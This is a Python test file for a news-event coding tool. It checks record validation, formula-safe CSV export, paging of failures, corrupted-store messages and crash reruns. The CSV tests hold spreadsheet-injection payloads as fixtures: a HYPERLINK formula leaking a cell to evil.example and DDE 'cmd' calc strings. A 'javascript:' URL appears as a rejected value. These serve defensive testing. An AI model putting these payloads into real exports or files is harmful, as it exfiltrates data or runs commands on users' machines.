"""Issue 17, the store's rows: coded records checked before they reach the store (3), CSV safe for
spreadsheets (5), failures paged in SQL (10), a corrupted store named with its fix (13), and a rerun
after a crash counting what was already there (14).  Ends with a property test: generated good and
malformed coded records (mutations of real coded output), checked alone and ingested into a real store."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import duckdb
import httpx
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_store_data import PEOPLE, report, write_jsonl

from dragoman.api import ServerThread, create_app
from dragoman.cli import main
from dragoman.errors import FormatError
from dragoman.model import Article, Event, Location
from dragoman.store import Store

A, B = PEOPLE[3], PEOPLE[4]
DRAGOMAN = str(Path(sys.executable).parent / "dragoman")
SRC = str(Path(__file__).resolve().parent.parent / "src")
ENV = {**os.environ, "PYTHONPATH": SRC + os.pathsep + os.environ.get("PYTHONPATH", "")}
#: the formula starts a spreadsheet runs (OWASP: CSV injection)
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def cli(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def goods() -> list[Article]:
    return [report("g1", A, B, "CONSULT", "2024-02-01", "Doha", url="https://alpha.example/g1", filler_seed=1),
            report("g2", B, A, "ACCUSE", "2024-02-03", "Oslo", url="https://beta.example/g2", filler_seed=2)]


def nonfinite(db: str | Path) -> int:
    """Stored NaN or Infinity values, in every DOUBLE column of every table."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        cols = con.execute("SELECT table_name, column_name FROM information_schema.columns "
                           "WHERE data_type = 'DOUBLE'").fetchall()
        return sum(con.execute(f'SELECT count(*) FROM {t} WHERE NOT isfinite("{c}")').fetchall()[0][0] for t, c in cols)
    finally:
        con.close()


# -- row 3: a bad coded record is one named failure; the good ones of the file are stored ------

def _set(path: tuple, value: Any):
    def mutate(rec: dict) -> None:
        node = rec
        for k in path[:-1]:
            node = node[k]
        node[path[-1]] = value
    return mutate


def _drop(path: tuple):
    def mutate(rec: dict) -> None:
        node = rec
        for k in path[:-1]:
            node = node[k]
        del node[path[-1]]
    return mutate


BAD_RECORDS = {  # name: (mutation, the field the failure names)
    "offset 10^12": (_set(("events", 0, "evidence", 0, "start"), 10**12), "events[0].evidence[0].start"),
    "offset past the text": (_set(("events", 0, "evidence", 0, "end"), 5000), "events[0].evidence[0].end"),
    "trigger past the text": (_set(("events", 0, "evidence", 0, "trigger"), [3, 9000]),
                              "events[0].evidence[0].trigger[1]"),
    "mention 10^30": (_set(("actors", 0, "mentions", 0, "start"), 10**30), "actors[0].mentions[0].start"),
    "quad_class x": (_set(("events", 0, "quad_class"), "x"), "events[0].quad_class"),
    "lat abc": (_set(("events", 0, "location", "lat"), "abc"), "events[0].location.lat"),
    "score 10^30": (_set(("events", 0, "score"), 10**30), "events[0].score"),
    "trusted yes": (_set(("reference_date", "trusted"), "yes"), "reference_date.trusted"),
    "confidence NaN": (_set(("events", 0, "confidence"), float("nan")), "events[0].confidence"),
    "lon Infinity": (_set(("events", 0, "location", "lon"), float("inf")), "events[0].location.lon"),
    "meta NaN": (_set(("meta", "weight"), float("-inf")), "meta.weight"),
    "title 123": (_set(("title",), 123), "title"),
    "lone surrogate": (_set(("title",), "Talks \ud800 resume"), "title"),
    "missing evidence end": (_drop(("events", 0, "evidence", 0, "end")), "events[0].evidence[0].end"),
    "events not a list": (_set(("events",), {"0": 1}), "events"),
    "date out of the calendar": (lambda r: (_set(("events", 0, "date"), "9999-12-30")(r),
                                            _set(("events", 0, "date_precision"), "week")(r)), "events[0].date"),
}


def test_each_bad_coded_record_is_a_named_failure_and_the_good_ones_are_stored(tmp_path):
    """One file: a good record, the bad records of BAD_RECORDS (one per line), a good record."""
    g1, g2 = goods()
    lines, fields_ = [json.dumps(g1.to_dict())], {}
    for i, case in enumerate(sorted(BAD_RECORDS)):
        mutate, field = BAD_RECORDS[case]
        bad = report(f"bad{i}", A, B, "AID", "2024-02-05", "Lima", url=f"https://gamma.example/{i}",
                     filler_seed=3).to_dict()
        mutate(bad)
        lines.append(json.dumps(bad))
        fields_[len(lines)] = (case, field)
    lines.append(json.dumps(g2.to_dict()))
    path = tmp_path / "coded.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = tmp_path / "s.duckdb"
    res = cli("ingest", str(path), "--db", str(db))
    assert res.exit_code == 1, res.output
    assert "2 articles stored" in res.output and f"{len(BAD_RECORDS)} failures" in res.output, res.output
    fails = {f["source"]: f for f in json.loads(cli("failures", "--db", str(db), "--format", "json").output)}
    assert set(fails) == {f"{path}:{line}" for line in fields_}
    for line, (case, field) in fields_.items():
        f = fails[f"{path}:{line}"]
        assert f["code"] == "format" and f"field '{field}'" in f["message"], (case, f["message"])
    with Store.open(db, read_only=True) as s:
        assert {r[0] for r in s.con.execute("SELECT id FROM articles").fetchall()} == {"g1", "g2"}
        assert s.counts()["article_events"] == 2
    assert nonfinite(db) == 0


def test_an_invalid_article_from_any_source_is_a_failure_not_a_rollback(db_path):
    """Articles handed to Store.ingest by code (the API, a batch folder, a script) are checked too:
    each bad one is a failure named by its source (or its id), the good ones of the batch are committed."""
    g1, g2 = goods()
    ev = g1.events[0]
    fields_ = {f: getattr(ev, f) for f in Event.__dataclass_fields__}
    nan = g1.replace(id="nan", url="https://x.example/nan", text=g1.text + " More.", meta={"source": "api:1"},
                     events=(Event(**{**fields_, "score": float("nan")}),))
    far = g1.replace(id="far", url="https://x.example/far", text=g1.text + " Else.", meta={},
                     events=(Event(**{**fields_, "location": Location("Doha", "QAT", 25.3, 951.5)}),))
    with Store.open(db_path) as s:
        counts = s.ingest([g1, nan, far, g2], batch_size=10)
        assert (counts["articles"], counts["failures"]) == (2, 2)
        fails = {f["source"]: f for f in s.failures()}
        assert {k: (f["article_id"], f["code"]) for k, f in fails.items()} == {"api:1": ("nan", "format"),
                                                                                "far": ("far", "format")}
        assert "field 'events[0].score' must be a finite number, not nan" in fails["api:1"]["message"]
        assert "field 'events[0].location.lon' must be a number from -180 to 180, not 951.5" in fails["far"]["message"]
        assert s.counts()["articles"] == 2
    assert nonfinite(db_path) == 0


# -- row 5: CSV cells a spreadsheet would run are written as text ------------------------------

#: the texts that open each article (the events' evidence) and two actors whose names are formulas
OPENINGS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
EVIL = ("+cmd|' /C calc'!A0", "MEX", "GOV")


@pytest.fixture
def formula_store(tmp_path) -> Path:
    arts = []
    for i, opening in enumerate(OPENINGS):
        a, b = (EVIL, B) if i == 0 else (A, PEOPLE[5 + i])
        day = f"2024-03-{1 + 5 * i:02d}"  # days apart: six events, none merged
        text = f"{opening} {a[0]} accused {b[0]} in Oslo on {day}. The Daily reported it."
        art = report(f"f{i}", a, b, "ACCUSE", day, "Oslo", url=f"https://f.example/{i}", text=text)
        ev = art.events[0]
        arts.append(art.replace(events=(Event(**{**{f: getattr(ev, f) for f in Event.__dataclass_fields__},
                                                 "score": -3.5}),)))
    db = tmp_path / "f.duckdb"
    with Store.open(db) as s:
        assert s.ingest(arts)["articles"] == len(OPENINGS)
    return db


def _check_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(OPENINGS)
    for r in rows:
        for cell in r.values():
            if cell.startswith(FORMULA):
                float(cell)  # only a number may begin with "-" (or "+"): a negative score stays a number
        assert r["score"] == "-3.5"
    assert sorted(r["evidence_text"][:3] for r in rows) == sorted("'" + o[:2] for o in OPENINGS)
    assert any(r["source_names"] == "'" + EVIL[0] for r in rows)
    return rows


def test_csv_exports_write_formulas_as_text(formula_store, tmp_path):
    out = tmp_path / "e.csv"
    res = cli("export", "--db", str(formula_store), "--format", "csv", "-o", str(out))
    assert res.exit_code == 0, res.output
    with open(out, encoding="utf-8", newline="") as fh:
        _check_csv(fh.read())
    res = cli("events", "--db", str(formula_store), "--format", "csv")
    assert res.exit_code == 0, res.output
    _check_csv(res.output)
    # the other CSV listings go through the same writer
    names = list(csv.DictReader(io.StringIO(cli("actors", "--db", str(formula_store), "--format", "csv").output)))
    assert "'" + EVIL[0] in {r["name"] for r in names}
    # plover JSONL and Parquet keep the text as it is (no spreadsheet reads them as formulas)
    cli("export", "--db", str(formula_store), "--format", "plover", "-o", str(tmp_path / "e.jsonl"))
    texts = {json.loads(line)["event_text"][:2] for line in (tmp_path / "e.jsonl").read_text().splitlines()}
    assert texts == {o[:2] for o in OPENINGS}


def test_the_dashboard_csv_button_downloads_safe_csv(formula_store):
    static = Path(SRC) / "dragoman" / "web" / "static"
    js = (static / "app.js").read_text(encoding="utf-8")
    # the button is a link to the API's export with the dashboard's filters; store strings go in as text
    assert '$("#dl-csv").href = "/api/export?" + qs({ ...state.filters, format: "csv"' in js
    assert 'id="dl-csv"' in (static / "index.html").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write"):
        assert sink not in js
    with ServerThread(create_app(formula_store)) as srv:
        r = httpx.get(srv.url + "/api/export", params={"format": "csv"}, timeout=30)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    _check_csv(r.text)


# -- row 10: a page of failures is cut in SQL ---------------------------------------------------

N_FAILURES = 100_000
#: what the page may cost above the warm server's address space (reading the whole table costs ~1.6 GB)
HEADROOM = 600 * 2**20

PAGE_PROBE = textwrap.dedent("""
    import json, resource, sys
    import httpx
    from dragoman.api import ServerThread, create_app

    def vmsize():
        for line in open("/proc/self/status"):
            if line.startswith("VmSize:"):
                return int(line.split()[1]) * 1024

    with ServerThread(create_app(sys.argv[1])) as srv:
        for path in ("/api/stats", "/api/events?limit=1", "/api/health"):  # warm: readers, the thread pool
            assert httpx.get(srv.url + path, timeout=60).status_code == 200
        limit = vmsize() + int(sys.argv[2])
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
        try:
            r = httpx.get(srv.url + "/api/failures", params={"limit": 2, "offset": 5}, timeout=120)
            print(json.dumps({"status": r.status_code, "body": r.json()}))
        except MemoryError:
            print(json.dumps({"status": "MemoryError"}))
""")


def test_a_page_of_100000_failures_reads_one_page(tmp_path):
    db = tmp_path / "fails.duckdb"
    with Store.open(db) as s:  # bulk: 100,000 failures of 4 KB each, the newest last
        s.con.execute(f"""INSERT INTO failures SELECT 'fail-' || i, 'input-' || lpad(i::VARCHAR, 6, '0') || '.txt',
            'format', 'line ' || i || ': ' || repeat('x', 4000), NULL, NULL, '0.1.0', 1,
            TIMESTAMP '2024-01-01' + to_seconds(i), TIMESTAMP '2024-01-01' + to_seconds(i)
            FROM range({N_FAILURES}) t(i)""")
        page = s.failures(limit=2, offset=5)
        assert [f["source"] for f in page] == ["input-099994.txt", "input-099993.txt"]
        assert s.count_failures() == N_FAILURES
    proc = subprocess.run([sys.executable, "-c", PAGE_PROBE, str(db), str(HEADROOM)], check=False, capture_output=True, text=True,
                          env=ENV, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out["status"] == 200, out
    assert out["body"]["total"] == N_FAILURES
    assert [f["source"] for f in out["body"]["failures"]] == ["input-099994.txt", "input-099993.txt"]
    assert out["body"]["failures"][0]["message"].startswith("line 99994: xxx")


# -- row 13: a truncated or damaged store file is named, with the fix ---------------------------

@pytest.fixture(scope="module")
def sound_store(tmp_path_factory) -> tuple[Path, Path]:
    """A store of a few articles, and a coded file to ingest (also into the damaged copies)."""
    d = tmp_path_factory.mktemp("sound")
    coded = write_jsonl(goods(), d / "coded.jsonl")
    db = d / "sound.duckdb"
    with Store.open(db) as s:
        s.ingest(Article.from_dict(json.loads(line)) for line in coded.read_text().splitlines())
    return db, coded


def _damaged(sound: Path, dest: Path, how: str) -> Path:
    data = sound.read_bytes()
    if how == "empty":
        dest.write_bytes(b"")
    elif how == "header cut":
        dest.write_bytes(data[:100])
    elif how == "blocks cut":
        dest.write_bytes(data[: len(data) // 2])
    elif how == "last bytes cut":
        dest.write_bytes(data[:-1000])
    elif how == "header scrambled":
        dest.write_bytes(data[:8] + b"\xff" * 4088 + data[4096:])
    return dest


def _check_message(text: str, db: Path) -> None:
    assert "Traceback" not in text and "this is a bug" not in text, text
    assert f"{db}: the store file is corrupted" in text, text
    assert "restore" in text and "from a copy" in text and "ingest your inputs again" in text, text


@pytest.mark.parametrize("how", ["empty", "header cut", "blocks cut", "last bytes cut", "header scrambled"])
def test_a_corrupted_store_is_named_with_the_fix(sound_store, tmp_path, how):
    sound, coded = sound_store
    db = _damaged(sound, tmp_path / "damaged.duckdb", how)
    before = db.read_bytes()
    for args in (["events"], ["export", "--format", "csv", "-o", str(tmp_path / "e.csv")], ["ingest", str(coded)]):
        res = cli(*args, "--db", str(db))  # (an exception, DuckDB's or another, would fail the test here)
        assert res.exit_code == 1, (args, res.output)
        _check_message(res.output, db)
    assert db.read_bytes() == before  # left as it was found, for the user to restore or inspect
    assert not Path(str(db) + ".wal").exists()


def test_serve_refuses_a_corrupted_store(sound_store, tmp_path):
    db = _damaged(sound_store[0], tmp_path / "damaged.duckdb", "blocks cut")
    proc = subprocess.run([DRAGOMAN, "serve", "--db", str(db), "--port", "0"], check=False, capture_output=True, text=True, env=ENV,
                          timeout=120)
    assert proc.returncode == 1, proc.stderr
    _check_message(proc.stderr, db)
    assert "dragoman serving" not in proc.stderr


def _block_damaged_copies(sound: Path, dest: Path):
    """Copies of the store with one 256 KB block zeroed in its middle, block by block."""
    data = sound.read_bytes()
    header, block = 3 * 4096, 256 * 1024
    for k in range((len(data) - header) // block):
        off = header + k * block + 5000
        dest.write_bytes(data[:off] + bytes(64) + data[off + 64:])
        yield k


def test_a_damaged_block_met_while_serving_is_a_503_naming_the_fix(sound_store, tmp_path):
    """A block that fails its checksum is found only when a query reads it (here the articles' texts):
    the API answers 503 with the message (never 500 "this is a bug"), and the CLI says the same."""
    from dragoman.errors import StoreCorruptError

    sound = sound_store[0]
    db = tmp_path / "block.duckdb"
    for _ in _block_damaged_copies(sound, db):
        try:
            with Store.open(db, read_only=True) as s:
                s.get_article("g1")
        except StoreCorruptError as e:
            if "checksum" in e.message:
                try:
                    Store.open(db, read_only=True).close()
                    break  # it opens; reading the article meets the damage
                except StoreCorruptError:
                    continue
    else:
        pytest.fail("no damaged block of the store was met by a query after opening")
    proc = subprocess.run([DRAGOMAN, "show", "g1", "--db", str(db)], check=False, capture_output=True, text=True, env=ENV,
                          timeout=120)
    assert proc.returncode == 1
    _check_message(proc.stderr, db)
    assert "a block fails its checksum" in proc.stderr
    with ServerThread(create_app(db)) as srv:
        r = httpx.get(srv.url + "/api/articles/g1", timeout=30)
        assert httpx.get(srv.url + "/api/health", timeout=30).status_code == 200
    assert r.status_code == 503, r.text
    body = r.json()
    assert body["error"] == "store_corrupt"
    _check_message(body["detail"], db)


# -- row 14: a rerun after a crash counts what was already there --------------------------------

CAPITALS = [("Oslo", "Norway"), ("Lima", "Peru"), ("Nairobi", "Kenya"), ("Cairo", "Egypt"), ("Vienna", "Austria"),
            ("Jakarta", "Indonesia"), ("Geneva", "Switzerland"), ("Doha", "Qatar"), ("Accra", "Ghana"),
            ("Hanoi", "Vietnam"), ("Quito", "Ecuador"), ("Dakar", "Senegal")]


def _stored(db: Path) -> int:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute("SELECT count(*) FROM articles").fetchall()[0][0]
    finally:
        con.close()


def test_a_rerun_after_sigkill_counts_what_was_already_there(tmp_path):
    """Raw inputs already stored are not coded again: the rerun's message counts them as already there
    (it said "0 already there")."""
    d = tmp_path / "news"
    d.mkdir()
    n = 0
    for i, (city, country) in enumerate(CAPITALS):
        for j, (_, other) in enumerate(CAPITALS[i + 1:i + 4]):
            (d / f"{i:02d}-{j}.txt").write_text(
                f"{city.upper()} - The foreign minister of {country} met her counterpart from {other} in {city} on "
                f"Monday to discuss trade and border security, officials said. Talks number {n} ended late.\n",
                encoding="utf-8")
            n += 1
    db = tmp_path / "news.duckdb"
    cmd = [DRAGOMAN, "ingest", str(d), "--db", str(db), "--published", "2024-03-05", "--batch-size", "1"]
    p = subprocess.Popen(cmd + ["--progress"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=ENV)
    try:
        for line in p.stderr:
            if line.startswith("committed:"):
                os.kill(p.pid, signal.SIGKILL)
                break
    finally:
        p.kill()
        p.wait(timeout=60)
        p.stderr.close()
    assert p.returncode == -signal.SIGKILL
    there = _stored(db)
    assert 0 < there < n, there  # killed mid-way
    rerun = subprocess.run(cmd, check=False, capture_output=True, text=True, env=ENV, timeout=300)
    assert rerun.returncode == 0, rerun.stderr
    assert f"{n - there} articles stored (0 replaced, {there} already there" in rerun.stderr, rerun.stderr
    assert _stored(db) == n


# -- the property: generated good and malformed coded records -----------------------------------
#
# The records start from real coded output (two short articles through the real pipeline); each
# generated record changes one field, in a way the record schema (docs/store.md) accepts or refuses.
# The oracle below is the schema as documented, written out independently of dragoman.validation.

SHORT_ARTICLES = [
    ('GENEVA - The foreign ministers of Norway and Chile met in Geneva on Monday to discuss trade. '
     '"We agreed to lower tariffs," the Chilean minister said.'),
    "NAIROBI - Kenya accused Somalia of violating its airspace on Sunday, officials said.",
]

# (container, key) → the field's kind; containers are named by the list or object that holds them
OFFSET, PAIR, QUAD, BOOL, STR, ENUM, STRS, OBJ, LIST, INDEX = (
    "offset", "pair", "quad", "bool", "str", "enum", "strs", "obj", "list", "index")
#: [start, end] pairs of offsets (a chrome entry is one too)
PAIRS = ("trigger", "speaker_span", "cue_span")
RANGES = {"score": (-10, 10), "confidence": (0, 1), "political": (0, 1), "lat": (-90, 90), "lon": (-180, 180)}
ENUMS = {("events", "date_precision"): ["day", "week", "month", "quarter", "year", "ref", "article", "none"],
         ("location", "precision"): ["place", "city", "admin1", "country"],
         ("places", "precision"): ["place", "city", "admin1", "country"]}
#: fields a record must have
REQUIRED = {("", "id"), ("", "text"), ("actors", "id"), ("actors", "name"), ("mentions", "start"), ("mentions", "end"),
            ("mentions", "text"), ("events", "id"), ("events", "type"), ("evidence", "start"), ("evidence", "end"),
            ("times", "start"), ("times", "end"), ("times", "text"), ("quotes", "start"), ("quotes", "end"),
            ("quotes", "text"), ("location", "name"), ("places", "name"), ("topic", "label"), ("topic", "political")}
#: fields that may be null (a missing list, object or flag that has a default is not the same: see NOT_NULL)
NULLABLE = {("", k) for k in ("url", "title", "dateline", "agency", "author", "language", "published", "chrome",
                              "reference_date", "topic", "actors", "events", "times", "quotes", "places", "meta")} | {
    ("reference_date", "date")} | {("actors", k) for k in ("country", "org", "sector", "role", "rule", "mentions")} | {
    ("events", k) for k in ("mode", "contexts", "quad_class", "cameo", "score", "sources", "targets", "date",
                            "date_text", "location", "aux", "evidence", "rule")} | {
    (c, k) for c in ("location", "places") for k in ("country", "lat", "lon", "start", "end")} | {
    ("times", k) for k in ("value", "anchor")} | {
    ("quotes", k) for k in ("speaker", "speaker_text", "speaker_span", "cue", "cue_span", "channel", "events")} | {
    ("mentions", "sent"), ("evidence", "sent")}


def kind_of(container: str, key: str, value: Any) -> str:
    if key in PAIRS or container == "chrome":
        return PAIR
    if key == "sent":  # a sentence's number: a whole number, not an offset into the text
        return INDEX
    if key in ("start", "end"):
        return OFFSET
    if key == "quad_class":
        return QUAD
    if key in RANGES:
        return "float"
    if (container, key) in ENUMS:
        return ENUM
    if key in ("contexts", "sources", "targets") or (container == "quotes" and key == "events"):
        return STRS
    if key in ("chrome", "reference_date", "topic", "location", "aux", "meta"):
        return OBJ
    if key in ("actors", "events", "times", "quotes", "places", "mentions", "evidence"):
        return LIST
    if isinstance(value, bool) or key in ("trusted", "date_trusted", "reciprocal", "negated", "hypothetical", "future",
                                          "historical", "direct"):
        return BOOL
    return STR


def fmt(path: tuple) -> str:
    out = ""
    for k in path:
        out += f"[{k}]" if isinstance(k, int) else (f".{k}" if out else k)
    return out


def fields_of(rec: dict) -> list[tuple[tuple, str, str]]:
    """Every field of a record: (path, container, key), objects and lists too (not the root)."""
    out = []

    def walk(node: Any, path: tuple, container: str) -> None:
        if isinstance(node, dict):
            for k, v in node.items():
                sub = f"meta.{k}" if container.startswith("meta") else k
                out.append((path + (k,), container, k))
                if k in PAIRS or container == "chrome":
                    for i in range(len(v or ())):
                        out.append((path + (k, i), "pair", i))
                elif k in ("contexts", "sources", "targets") or (container == "quotes" and k == "events"):
                    for i in range(len(v)):
                        out.append((path + (k, i), "strs", i))
                elif isinstance(v, (dict, list)):
                    walk(v, path + (k,), sub if container.startswith("meta") or k == "meta" else k)
        elif isinstance(node, list):
            for i, v in enumerate(node):
                out.append((path + (i,), container + "[]", i))
                walk(v, path + (i,), container)

    walk(rec, (), "")
    return out


NAN, INF = float("nan"), float("inf")


def mutations(rec: dict, path: tuple, container: str, key: Any) -> list[tuple[str, Any, bool]]:
    """(name, new value or DROP, bad?) for one field."""
    value = rec
    for k in path:
        value = value[k]
    n = len(rec["text"])
    if container.startswith("meta"):  # any JSON value but NaN, Infinity and lone surrogates
        return [("missing", DROP, False), ("nan", NAN, True), ("inf", -INF, True), ("surrogate", "\udc80", True),
                ("text", "x", False), ("number", 2.5, False), ("list", [1, "a", None], False)]
    if container.endswith("[]"):  # an item of a list of objects
        return [("item str", "abc", True), ("item int", 5, True), ("item list", [1], True), ("item null", None, True)]
    if container == "strs":
        return [("int", 5, True), ("null", None, True), ("surrogate", "a\ud800", True), ("other", "x", False)]
    if container == "pair":
        good = 0 if key == 0 else n
        return [("str", "3", True), ("float", 1.5, True), ("bool", True, True), ("negative", -1, True),
                ("past the text", n + 1, True), ("huge", 10**30, True), ("other", good, False)]
    kind = kind_of(container, key, value)
    required, nullable = (container, key) in REQUIRED, (container, key) in NULLABLE
    out = [("missing", DROP, required), ("null", None, not nullable)]
    if kind == OFFSET:
        good = 0 if key == "start" else n
        out += [("str", "5", True), ("float", 2.5, True), ("bool", False, True), ("negative", -1, True),
                ("past the text", n + 7, True), ("10^12", 10**12, True), ("10^30", 10**30, True),
                ("other", good, False)]
    elif kind == PAIR:
        out = [("missing", DROP, False), ("null", None, not nullable), ("str", "abc", True), ("one", [1], True),
               ("three", [0, 1, 2], True), ("backwards", [n, 0], True), ("other", [0, n], False)]
    elif kind == INDEX:
        out += [("str", "5", True), ("float", 2.5, True), ("bool", False, True), ("negative", -1, True),
                ("10^12", 10**12, True), ("other", 7, False)]
    elif kind == QUAD:
        out += [("str", "x", True), ("zero", 0, True), ("five", 5, True), ("float", 2.5, True), ("bool", True, True),
                ("10^30", 10**30, True), ("other", 4, False)]
    elif kind == "float":
        lo, hi = RANGES[key]
        out += [("str", "abc", True), ("nan", NAN, True), ("inf", INF, True), ("-inf", -INF, True),
                ("10^30", 10**30, True), ("below", lo - 0.5, True), ("above", hi + 1, True), ("bool", True, True),
                ("list", [lo], True), ("other", (lo + hi) / 2 + 0.25, False), ("whole", int(hi), False)]
    elif kind == BOOL:
        out = [("missing", DROP, False), ("null", None, True), ("str", "yes", True), ("int", 1, True),
               ("zero", 0, True), ("other", not value, False)]
    elif kind == ENUM:
        others = [w for w in ENUMS[(container, key)] if w != value]
        out += [("unknown word", "decade", True), ("int", 5, True), ("other", others[0], False)]
    elif kind == STR:
        out += [("int", 123, True), ("float", 1.5, True), ("bool", True, True), ("list", ["a"], True),
                ("object", {"a": 1}, True), ("surrogate", "Talks \ud800 resume", True),
                ("other", (value or "") + "x", False)]
        if key == "id" and container == "":
            out.append(("empty", "", True))
        if key == "url" and container == "":  # an http(s) address, as raw records (test_hardening_again)
            out[-1] = ("other", (value or "https://other.example/") + "x", False)
            out.append(("javascript", "javascript:alert(1)", True))
    elif kind == STRS:
        out += [("str", "abc", True), ("int", 5, True), ("object", {"a": 1}, True), ("empty", [], False)]
    elif kind in (OBJ, LIST):
        out += [("str", "abc", True), ("int", 5, True), ("empty", [] if kind == LIST else {}, False)]
        out.append(("list", [1], True) if kind == OBJ else ("object", {"a": 1}, True))
    return out


DROP = object()


def apply(rec: dict, path: tuple, value: Any) -> dict:
    """A copy of ``rec`` with one field changed (the objects and lists on its path copied, the rest shared)."""
    rec = copy.copy(rec)
    node = rec
    for k in path[:-1]:
        node[k] = copy.copy(node[k])
        node = node[k]
    if value is DROP:
        del node[path[-1]]
    else:
        node[path[-1]] = value
    return rec


@pytest.fixture(scope="module")
def coded_records(pipeline) -> list[dict]:
    from dragoman.api_public import extract

    recs = [extract(t, published="2024-03-05", pipeline=pipeline).to_dict() for t in SHORT_ARTICLES]
    recs[1]["meta"] = {"format": "text", "input": {"outlet": "Daily", "page": 2, "tags": ["a", "b"]}}
    recs[1]["url"] = "https://daily.example/kenya"
    return recs


def cases_of(recs: list[dict]) -> list[tuple[int, tuple, str, Any, str, Any, bool]]:
    """Every (record, field path, container, key, mutation, value, bad?) the schema decides."""
    out = []
    for r, rec in enumerate(recs):
        for path, container, key in fields_of(rec):
            for name, value, bad in mutations(rec, path, container, key):
                out.append((r, path, container, key, name, value, bad))
        for name in ("actors", "events"):
            if len(rec.get(name) or ()) > 1:
                out.append((r, (name, 1, "id"), name, "id", "repeated id", rec[name][0]["id"], True))
    return out


def mutated(rec: dict, case: tuple) -> tuple[dict, bool]:
    """``rec`` changed as ``case`` says (the new value worked out again on ``rec``); and whether it is bad."""
    _, path, container, key, name, _, bad = case
    if name == "repeated id":
        return apply(rec, path, rec[path[0]][0]["id"]), True
    value = next(v for m, v, _ in mutations(rec, path, container, key) if m == name)
    return apply(rec, path, value), bad


def outcome(rec: dict) -> str | None:
    """None when the record is read as an Article, else the failure's message."""
    try:
        Article.from_dict(json.loads(json.dumps(rec)))
    except FormatError as e:
        return e.message
    return None


def test_the_cases_cover_the_schema(coded_records):
    cases = cases_of(coded_records)
    assert len(cases) > 2000
    assert sum(c[-1] for c in cases) > 1500 and sum(not c[-1] for c in cases) > 500
    assert all(outcome(r) is None for r in coded_records)


GENERATED = settings(max_examples=2200, deadline=None, database=None, derandomize=True,
                     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@GENERATED
@given(data=st.data())
def test_generated_records_are_read_or_refused_naming_the_field(coded_records, data):
    cases = _cases(coded_records)
    r, path, _, _, name, value, bad = cases[data.draw(st.integers(0, len(cases) - 1), label="case")]
    got = outcome(apply(coded_records[r], path, value))
    if not bad:
        assert got is None, (fmt(path), name, got)
        return
    assert got is not None, f"{fmt(path)} {name}: accepted"
    assert f"field '{fmt(path)}" in got, (fmt(path), name, got)  # the field, or a part of it ("trigger[1]")


_CASES: dict[int, list] = {}


def _cases(recs: list[dict]) -> list:
    if id(recs) not in _CASES:
        _CASES[id(recs)] = cases_of(recs)
    return _CASES[id(recs)]


@pytest.fixture(scope="module")
def property_store(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("property") / "property.duckdb"


def unique(rec: dict, tag: str) -> dict:
    """A copy of a base record as a different article: its own id, URL, text and event ids."""
    rec = copy.deepcopy(rec)
    rec["id"], rec["url"], rec["text"] = f"p-{tag}", f"https://prop.example/{tag}", rec["text"] + f" ({tag})"
    for i, ev in enumerate(rec["events"]):
        ev["id"] = f"ev-{tag}-{i}"
    return rec


_EXAMPLE = [0]


@settings(max_examples=25, deadline=None, database=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def test_generated_files_store_every_good_record_and_name_every_bad_one(coded_records, property_store, tmp_path_factory,
                                                                       data):
    """A file of generated records, good and bad mixed, through `dragoman ingest` into one real store:
    every good record stored with its events, every bad one a failure naming its line and field."""
    cases = _cases(coded_records)
    picks = data.draw(st.lists(st.integers(-1, len(cases) - 1), min_size=1, max_size=10), label="cases")
    _EXAMPLE[0] += 1
    lines, good, bad = [], {}, {}
    for k, pick in enumerate(picks):
        tag = f"{_EXAMPLE[0]}-{k}"
        if pick < 0:  # an unchanged record
            rec, is_bad, field = unique(coded_records[k % 2], tag), False, None
        else:
            case = cases[pick]
            rec, is_bad = mutated(unique(coded_records[case[0]], tag), case)
            field = fmt(case[1])
        lines.append(json.dumps(rec))
        if is_bad:
            bad[len(lines)] = field
        else:
            good[rec["id"]] = len(rec.get("events") or ())
    path = tmp_path_factory.mktemp("gen") / "coded.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="ascii")
    res = cli("ingest", str(path), "--db", str(property_store))
    assert res.exit_code == (1 if bad else 0), res.output
    assert f"{len(good)} articles stored (0 replaced, 0 already there" in res.output, (res.output, good, bad)
    assert f"{len(bad)} failures" in res.output
    with Store.open(property_store, read_only=True) as s:
        stored = dict(s.con.execute(
            "SELECT a.id, count(ae.id) FROM articles a LEFT JOIN article_events ae ON ae.article_id = a.id "
            "WHERE a.source LIKE ? GROUP BY a.id", [f"{path}:%"]).fetchall())
        assert stored == good
        fails = {f["source"]: f["message"] for f in s.failures() if f["source"].startswith(f"{path}:")}
    assert set(fails) == {f"{path}:{line}" for line in bad}
    for line, field in bad.items():
        assert f"field '{field}" in fails[f"{path}:{line}"], (field, fails[f"{path}:{line}"])
    assert nonfinite(property_store) == 0
